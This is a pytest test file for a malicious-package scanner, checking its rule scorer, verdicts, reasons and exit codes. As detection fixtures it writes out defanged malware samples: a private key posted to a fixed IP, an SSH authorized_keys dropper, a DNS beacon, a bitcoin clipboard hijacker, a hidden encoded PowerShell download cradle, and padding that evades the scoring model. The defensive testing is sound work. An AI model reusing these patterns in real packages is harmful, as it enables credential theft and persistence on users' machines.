"""The rule scorer and the Scanner facade: verdicts, reasons with evidence, errors as values."""

from __future__ import annotations

import hashlib
import json
import math
from collections.abc import Sequence
from pathlib import Path

import pytest

from conftest import ArchiveBuilder
from vetpy.acquire.interface import Archive, ArchiveFormat, Member
from vetpy.acquire.targets import Target
from vetpy.assess import MAX_REASONS
from vetpy.errors import ModelError
from vetpy.features.calls import BEHAVIOUR_KINDS
from vetpy.features.extract import extract_features
from vetpy.features.interface import PackageFeatures
from vetpy.features.registry import BY_ID, FEATURE_IDS
from vetpy.model.interface import Contribution
from vetpy.model.rules import DEFAULT_WEIGHTS, RuleScorer
from vetpy.result import Outcome, Verdict
from vetpy.scan import Scanner, default_scorer, exit_code, load_scorer


def _features(**values: float) -> PackageFeatures:
    return PackageFeatures(name="p", version="1", values=values, suspicious_text="", code_text="")


# -- RuleScorer ----------------------------------------------------------------------------------------


def test_rule_weights_name_registry_features() -> None:
    assert set(DEFAULT_WEIGHTS) <= set(FEATURE_IDS)
    assert all(w > 0 for w in DEFAULT_WEIGHTS.values())
    with pytest.raises(ValueError, match=r"no\.such"):
        RuleScorer(weights={"no.such": 1.0})


def test_rule_scorer_separates_plain_from_install_time_payload() -> None:
    scorer = RuleScorer()
    plain = _features(**{"archive.log_files": 2.0, "meta.no_license": 1.0})
    payload = _features(
        **{
            "install.cmdclass": 1,
            "code.decode_exec": 1,
            "code.base64": 2,
            "code.exec_eval": 1,
            "code.http": 1,
        }
    )
    low, high = scorer.score([plain, payload])
    assert 0.0 <= low < scorer.threshold <= high <= 1.0
    assert scorer.name == "rules" and scorer.threshold == 0.5


def test_rule_scorer_is_monotonic_and_bounded() -> None:
    scorer = RuleScorer()
    scores = [
        scorer.score([_features(**{f: 1.0 for f in FEATURE_IDS[:n]})])[0] for n in range(len(FEATURE_IDS))
    ]
    assert scores == sorted(scores)
    everything = _features(**{f: 1e9 for f in FEATURE_IDS})
    nonsense = _features(**{f: v for f, v in zip(FEATURE_IDS, [math.nan, -math.inf, -5.0], strict=False)})
    for value in scorer.score([everything, nonsense]):
        assert 0.0 <= value <= 1.0


def test_rule_scorer_discounts_capabilities_that_wait_to_be_called() -> None:
    """A library that can read a netrc, the environment and run exec (requests) is not a payload; the
    same capabilities in code that runs by itself, or beside a payload's shape, count in full."""
    scorer = RuleScorer()
    library = {"code.credential_read": 1, "code.env_access": 3, "code.exec_eval": 1, "code.dunder_import": 1}
    (waits,) = scorer.score([_features(**library)])
    (runs,) = scorer.score([_features(**library, **{"install.import_time_payload": 1})])
    (sends,) = scorer.score([_features(**library, **{"code.exfil_flow": 1})])
    assert waits < scorer.threshold < min(runs, sends)


def test_rule_scorer_counts_saturate() -> None:
    scorer = RuleScorer()
    once, often = scorer.score([_features(**{"code.subprocess": 1}), _features(**{"code.subprocess": 40})])
    assert once == often


def test_rule_explain_ranks_largest_contributions() -> None:
    scorer = RuleScorer(weights={"code.exec_eval": 1.0, "code.webhook": 3.0, "code.socket": 0.5})
    package = _features(**{"code.exec_eval": 1, "code.webhook": 1, "code.raw_ip": 1})
    assert scorer.explain(package) == [Contribution("code.webhook", 3.0), Contribution("code.exec_eval", 1.0)]
    assert scorer.explain(package, top=1) == [Contribution("code.webhook", 3.0)]
    assert scorer.explain(_features()) == []


# -- Scanner -------------------------------------------------------------------------------------------


class FixedScorer:
    """A scorer that returns one score and a fixed explanation (to test the facade on its own)."""

    name = "fixed"

    def __init__(
        self, value: float, contributions: Sequence[Contribution] = (), threshold: float = 0.5
    ) -> None:
        self.value, self.contributions, self.threshold = value, list(contributions), threshold

    def score(self, packages: Sequence[PackageFeatures]) -> list[float]:
        return [self.value for _ in packages]

    def explain(self, package: PackageFeatures, top: int = 5) -> list[Contribution]:
        return self.contributions[:top]


class BrokenScorer(FixedScorer):
    def score(self, packages: Sequence[PackageFeatures]) -> list[float]:
        raise RuntimeError("boom\nsecond line")


SETUP_EXEC = (
    b"import base64\nfrom setuptools import setup\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='p')\n"
)


def _archive(
    files: dict[str, bytes], *, limit_hit: str | None = None, notes: tuple[str, ...] = ()
) -> Archive:
    members = tuple(Member(f"p-1.0/{path}", data) for path, data in files.items())
    digest = hashlib.sha256(b"".join(m.data for m in members)).hexdigest()
    return Archive(
        "p-1.0.tar.gz",
        "p-1.0.tar.gz",
        digest,
        ArchiveFormat.TAR_GZ,
        members,
        notes=notes,
        limit_hit=limit_hit,
    )


def test_scan_archive_joins_contributions_with_first_evidence() -> None:
    archive = _archive(
        {"setup.py": SETUP_EXEC, "PKG-INFO": b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"}
    )
    features = extract_features(archive)
    fired = [f for f in FEATURE_IDS if features.evidence_for(f)]
    assert fired, "the extractor gave no evidence for an exec of base64 data in setup.py"
    quiet = next(f for f in FEATURE_IDS if not features.evidence_for(f))
    contributions = [Contribution(f, 1.0) for f in fired[:3]] + [
        Contribution(quiet, 0.5),
        Contribution("x", 0),
    ]
    result = Scanner(scorer=FixedScorer(0.9, contributions)).scan_archive(archive)

    assert result.verdict is Verdict.MALICIOUS and result.score == 0.9 and result.threshold == 0.5
    assert (result.name, result.version, result.sha256) == ("p", "1.0", archive.sha256)
    listed = [r.feature for r in result.reasons]
    assert listed[:4] == [*fired[:3], quiet]  # zero contributions are dropped
    for reason in result.reasons[:3]:
        first = features.evidence_for(reason.feature)[0]
        assert (reason.file, reason.line) == (first.file, first.line)
        assert reason.message == " ".join(first.message.split())
    assert result.reasons[3].message == BY_ID[quiet].description and result.reasons[3].file is None
    # in the room left: located behaviours the model's reasons did not name
    extra = result.reasons[4:]
    assert all(r.feature in BEHAVIOUR_KINDS and r.file and r.feature not in fired[:3] for r in extra)
    assert result.seconds > 0 and result.error is None


def test_a_malicious_verdict_names_located_behaviours_its_model_reasons_do_not() -> None:
    archive = _archive(
        {"setup.py": SETUP_EXEC, "PKG-INFO": b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"}
    )
    shown = [Contribution("meta.typosquat_similarity", 1.0)]  # a reason with no place in the code
    flagged = Scanner(scorer=FixedScorer(0.9, shown)).scan_archive(archive)
    assert flagged.reasons[0].feature == "meta.typosquat_similarity"  # the model's reasons come first
    behaviours = flagged.reasons[1:]
    assert behaviours and all(r.feature in BEHAVIOUR_KINDS and r.file and r.line for r in behaviours)
    assert len({r.feature for r in behaviours}) == len(behaviours)  # one per kind
    assert any("base64" in r.message for r in behaviours)
    benign = Scanner(scorer=FixedScorer(0.1, shown)).scan_archive(archive)
    assert not any(r.feature in BEHAVIOUR_KINDS for r in benign.reasons)  # only for a malicious verdict


def test_scan_archive_caps_reasons_and_reports_limit_hits() -> None:
    contributions = [Contribution(f, 1.0) for f in FEATURE_IDS[:10]]
    archive = _archive({"a.py": b"x = 1\n"}, limit_hit="max_members", notes=("skipped a symlink",))
    result = Scanner(scorer=FixedScorer(0.1, contributions)).scan_archive(archive)
    # an incomplete scan scoring under the threshold is an error (score kept), never benign
    assert result.verdict is Verdict.ERROR and result.score == 0.1
    assert (result.error or "").startswith("incomplete scan: reading stopped at a limit (max_members)")
    assert result.reasons[0].feature == "archive.limit_hit" and "max_members" in result.reasons[0].message
    assert len(result.reasons) == MAX_REASONS + 1
    assert result.notes == ("incomplete scan: reading stopped at a limit (max_members)", "skipped a symlink")
    flagged = Scanner(scorer=FixedScorer(0.9, contributions)).scan_archive(archive)
    assert flagged.verdict is Verdict.MALICIOUS and flagged.error is None


def test_threshold_override() -> None:
    archive = _archive({"a.py": b"x = 1\n"})
    assert Scanner(scorer=FixedScorer(0.2)).scan_archive(archive).verdict is Verdict.BENIGN
    flagged = Scanner(scorer=FixedScorer(0.2), threshold=0.2).scan_archive(archive)
    assert flagged.verdict is Verdict.MALICIOUS and flagged.threshold == 0.2


def test_scorer_failure_becomes_one_line_error() -> None:
    result = Scanner(scorer=BrokenScorer(0.0)).scan_archive(_archive({"a.py": b"x = 1\n"}))
    assert result.verdict is Verdict.ERROR and result.score is None
    assert result.error == "internal error: RuntimeError: boom second line"


def test_scan_target_skipped_and_unreadable() -> None:
    scanner = Scanner(scorer=FixedScorer(0.9))
    skipped = scanner.scan_target(
        Target("git+https://example.invalid/x", None, None, "skipped: VCS URLs are not scanned", None)
    )
    assert skipped.outcome is Outcome.SKIPPED and skipped.skipped and skipped.error is None
    assert skipped.notes == ("skipped: VCS URLs are not scanned",) and exit_code([skipped]) == 0
    missing = scanner.scan_target(
        Target("/no/such/file.tar.gz", Path("/no/such/file.tar.gz"), None, None, "w")
    )
    assert missing.verdict is Verdict.ERROR and not missing.skipped and missing.outcome is Outcome.FAILED
    assert exit_code([skipped, missing]) == 3
    assert missing.error and "\n" not in missing.error and missing.notes == ("w",)


def test_scan_batch_continues_past_bad_inputs(tmp_path: Path, make_archive: ArchiveBuilder) -> None:
    good = tmp_path / "good-1.0.tar.gz"
    good.write_bytes(
        make_archive({"good-1.0/setup.py": b"from setuptools import setup\nsetup(name='good')\n"})
    )
    corrupt = tmp_path / "corrupt-1.0.tar.gz"
    corrupt.write_bytes(b"\x1f\x8b this is not gzip at all")
    results = Scanner(scorer=FixedScorer(0.1)).scan([str(corrupt), str(good), str(tmp_path / "absent.zip")])
    assert [r.verdict for r in results] == [Verdict.ERROR, Verdict.BENIGN, Verdict.ERROR]
    assert all(r.error and "\n" not in r.error for r in (results[0], results[2]))
    assert results[1].sha256 == hashlib.sha256(good.read_bytes()).hexdigest()
    assert exit_code(results) == 3


def test_exit_code() -> None:
    archive = _archive({"a.py": b"x = 1\n"})
    benign = Scanner(scorer=FixedScorer(0.1)).scan_archive(archive)
    flagged = Scanner(scorer=FixedScorer(0.9)).scan_archive(archive)
    failed = Scanner(scorer=BrokenScorer(0.0)).scan_archive(archive)
    assert exit_code([benign]) == 0 and exit_code([]) == 0
    assert exit_code([benign, failed]) == 3
    assert exit_code([failed, flagged, benign]) == 1


def test_default_scorer_falls_back_to_rules(monkeypatch: pytest.MonkeyPatch) -> None:
    import vetpy.model.loader as loader

    def no_model(threshold: float | None = None) -> None:
        raise ModelError("no trained model is bundled")

    monkeypatch.setattr(loader, "deferred_default_scorer", no_model)
    assert isinstance(default_scorer(), RuleScorer)
    assert isinstance(load_scorer("rules"), RuleScorer)
    with pytest.raises(ModelError):
        load_scorer(str(Path("/no/such/model.skops")))


def test_reasons_put_located_evidence_first_and_a_benign_verdict_shows_only_evidence() -> None:
    archive = _archive(
        {"setup.py": SETUP_EXEC, "PKG-INFO": b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"}
    )
    features = extract_features(archive)
    located = next(f for f in FEATURE_IDS if any(e.file for e in features.evidence_for(f)))
    quiet = next(f for f in FEATURE_IDS if not features.evidence_for(f))
    contributions = [
        Contribution("text.code_tokens", 3.0),
        Contribution(quiet, 2.0),
        Contribution(located, 1.0),
        Contribution("code.webhook", -1.0),  # pulls toward benign: never a reason
    ]
    flagged = Scanner(scorer=FixedScorer(0.9, contributions)).scan_archive(archive)
    listed = [r.feature for r in flagged.reasons]
    assert listed[:3] == [located, "text.code_tokens", quiet]
    assert all(f in BEHAVIOUR_KINDS and f != located for f in listed[3:])  # then behaviours not yet named
    first = next(e for e in features.evidence_for(located) if e.file)
    assert (flagged.reasons[0].file, flagged.reasons[0].line) == (first.file, first.line)
    assert f"(e.g. {' '.join(first.message.split())})" in flagged.reasons[1].message  # the deciding example
    benign = Scanner(scorer=FixedScorer(0.1, contributions)).scan_archive(archive)
    assert [r.feature for r in benign.reasons] == [located]
    assert all(r.file for r in benign.reasons)


def _padded_wallet_helper(make_archive: ArchiveBuilder) -> bytes:
    """A defanged call-time wallet helper padded with harmless functions and given a README: the shape
    the bundled model scores under its threshold (benchmarks/evasion_probe.py)."""
    filler = "".join(
        f'def helper_{i}(value, default=None):\n    """Return value or default."""\n'
        f"    if value is None:\n        return default\n    return value\n\n\n"
        for i in range(60)
    )
    helper = (
        "import requests\n\n\n"
        + filler
        + "def get_balance(address, private_key):\n"
        + "    payload = {'address': address, 'key': private_key}\n"
        + "    requests.post('http://203.0.113.5:8080/api/v1/balance', json=payload, timeout=3)\n"
        + "    return 0\n"
        + "CHAIN = 'solana-mainnet'\n"
    )
    readme = "A small toolkit for wallet balances.\n\n" + "Fast, typed, documented helpers.\n" * 20
    info = (
        "Metadata-Version: 2.1\nName: quillnest\nVersion: 1.0\nSummary: Wallet helpers\nAuthor: Jane Doe\n"
        "Author-email: jane@example.org\nHome-page: https://example.org/q\nLicense: MIT\n\n" + readme
    )
    setup = "from setuptools import setup\nsetup(name='quillnest', version='1.0', packages=['demo'])\n"
    files = {"PKG-INFO": info, "setup.py": setup, "demo/__init__.py": "", "demo/client.py": helper}
    return make_archive({f"quillnest-1.0/{p}": t.encode() for p, t in files.items()})


def test_a_custody_secret_sent_to_a_fixed_host_is_flagged_whatever_the_score(
    tmp_path: Path, make_archive: ArchiveBuilder, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "quillnest-1.0.tar.gz"
    path.write_bytes(_padded_wallet_helper(make_archive))
    scanner = Scanner()  # the bundled model
    [result] = scanner.scan([str(path)])
    assert result.score is not None and result.threshold is not None
    assert result.score < result.threshold, "the model alone flags it: this test shows nothing"
    assert result.verdict is Verdict.MALICIOUS
    first = result.reasons[0]
    assert first.feature == "policy.custody_exfil"
    assert (first.file, first.line) == ("quillnest-1.0/demo/client.py", 4 + 7 * 60 + 2)
    assert "(private_key)" in first.message and "203.0.113.5" in first.message
    # the CLI (and so the batch engine and the service, which run Scanner.scan) says the same
    from vetpy.cli.main import main

    assert main(["scan", "--format", "json", str(path)]) == 1
    [reported] = json.loads(capsys.readouterr().out)["results"]
    assert reported["verdict"] == "malicious" and reported["reasons"][0]["feature"] == "policy.custody_exfil"


def test_a_payload_written_into_a_startup_location_is_flagged_whatever_the_score() -> None:
    dropper = (
        b"import os\n\n\ndef add_key():\n"
        b"    with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
        b"        fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5PLACEHOLDER someone@host\\n')\n"
    )
    info = b"Metadata-Version: 2.1\nName: p\nVersion: 1.0\n"
    files = {"setup.py": b"", "PKG-INFO": info, "p/keys.py": dropper}
    result = Scanner(scorer=FixedScorer(0.01, [])).scan_archive(_archive(files))
    assert result.verdict is Verdict.MALICIOUS
    first = result.reasons[0]
    assert (first.feature, first.file, first.line) == ("policy.persistence_payload", "p-1.0/p/keys.py", 6)
    honest = dropper.replace(b"'~/.ssh/authorized_keys'", b"'~/.config/p/known_keys'")
    result = Scanner(scorer=FixedScorer(0.01, [])).scan_archive(_archive(files | {"p/keys.py": honest}))
    assert result.verdict is Verdict.BENIGN


def test_a_dns_beacon_and_a_clipper_are_flagged_whatever_the_score() -> None:
    beacon = (
        b"import socket, getpass\n\n\ndef ping():\n"
        b"    socket.gethostbyname(f'{getpass.getuser()}.abc123.oast.fun')\n"
    )
    clipper = (
        b"import pyperclip\n\n\ndef swap():\n    if pyperclip.paste().startswith('bc1'):\n"
        b"        pyperclip.copy('bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kvfnk9s')\n"
    )
    scanner = Scanner(scorer=FixedScorer(0.01))
    result = scanner.scan_archive(_archive({"demo/a.py": beacon, "demo/b.py": clipper}))
    assert result.verdict is Verdict.MALICIOUS
    first, second = result.reasons[:2]
    assert (first.feature, first.file, first.line) == ("policy.dns_beacon", "p-1.0/demo/a.py", 5)
    assert (second.feature, second.file, second.line) == ("policy.clipboard_hijack", "p-1.0/demo/b.py", 6)
    # neither without its receiver domain or its wallet address
    honest = scanner.scan_archive(
        _archive(
            {
                "demo/a.py": beacon.replace(b".abc123.oast.fun", b".corp.example.net"),
                "demo/b.py": clipper.replace(b"'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kvfnk9s'", b"'none'"),
            }
        )
    )
    assert honest.verdict is Verdict.BENIGN


def test_an_encoded_hidden_powershell_command_is_flagged_whatever_the_score() -> None:
    import base64

    command = base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le"))
    setup_env = (
        b"import subprocess\n\n\ndef setup_env():\n"
        b"    subprocess.Popen(['powershell', '-W', 'Hidden', '-EncodedCommand', '" + command + b"'])\n"
    )
    scanner = Scanner(scorer=FixedScorer(0.01))
    result = scanner.scan_archive(_archive({"demo/env.py": setup_env}))
    assert result.verdict is Verdict.MALICIOUS
    first = result.reasons[0]
    assert (first.feature, first.file, first.line) == ("policy.hidden_payload", "p-1.0/demo/env.py", 5)
    assert "PowerShell" in first.message and first.message.endswith(": IEX (New-Object Net.WebClient)")
    # the same command written as it is: the model's to judge
    plain = setup_env.replace(b"'-EncodedCommand', '" + command + b"'", b"'-Command', 'Get-Date'")
    assert scanner.scan_archive(_archive({"demo/env.py": plain})).verdict is Verdict.BENIGN
